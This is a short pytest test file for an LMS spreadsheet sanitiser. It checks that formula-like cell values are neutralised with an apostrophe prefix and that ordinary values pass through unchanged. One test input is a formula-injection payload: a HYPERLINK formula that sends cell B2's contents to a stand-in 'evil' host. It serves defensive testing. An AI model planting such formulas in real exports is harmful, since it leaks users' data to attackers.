import pytest

from lms.spreadsheets import safe_cell, safe_row


@pytest.mark.parametrize("text", ["=1+1", '=HYPERLINK("https://evil/?"&B2,"open")', "+A1", "-2+3", "@SUM(A1)", "\t=1"])
def test_formula_like_text_is_neutralised(text):
    assert safe_cell(text) == "'" + text


def test_ordinary_values_pass_through():
    assert safe_row(["Nguyễn Thị Hồng Nhung", 12, -3.5, None, True, ""]) == [
        "Nguyễn Thị Hồng Nhung",
        12,
        -3.5,
        None,
        True,
        "",
    ]
